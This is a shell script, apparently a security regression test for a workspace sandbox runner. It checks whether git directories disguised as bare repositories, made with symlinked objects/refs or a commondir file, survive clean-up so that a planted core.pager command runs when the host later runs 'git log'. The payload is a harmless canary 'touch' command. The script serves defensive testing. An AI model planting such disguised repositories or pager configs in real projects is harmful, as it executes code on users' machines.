#!/bin/sh
# A directory git takes for a bare repository without it holding
# objects/ and refs/ directories of its own escapes the post-run clean-up:
# symlinked objects/refs (git's access() follows them), or a commondir file
# (git looks for objects/refs, and reads config, in the common dir).  The
# host's next "git log" in that directory runs core.pager.
# Usage: review/git_disguised_bare.sh [BUILD_DIR]
B=${1:-build}/cmd
T=$(mktemp -d); W=$T/ws; mkdir $W
git -C $W init -q && git -C $W -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
br=$(git -C $W branch --show-current)
$B/wsrun --workspace $W -c "
mkdir -p src sub x
printf 'ref: refs/heads/$br\n' > src/HEAD
ln -s ../.git/objects src/objects; ln -s ../.git/refs src/refs
printf '[core]\n\tpager = \"touch $T/PWNED-src; cat\"\n' > src/config
printf 'ref: refs/heads/$br\n' > sub/HEAD; echo ../x > sub/commondir
cp -r .git/objects .git/refs x/
printf '[core]\n\tpager = \"touch $T/PWNED-sub; cat\"\n' > x/config
" >/dev/null 2>&1
for d in src sub; do
	(cd $W/$d && script -qc 'git log -1 --oneline' /dev/null >/dev/null 2>&1)
	if [ -e $T/PWNED-$d ]; then echo "VULNERABLE: git log in /$d ran core.pager"
	else echo "held: /$d"; fi
done
rm -rf $T
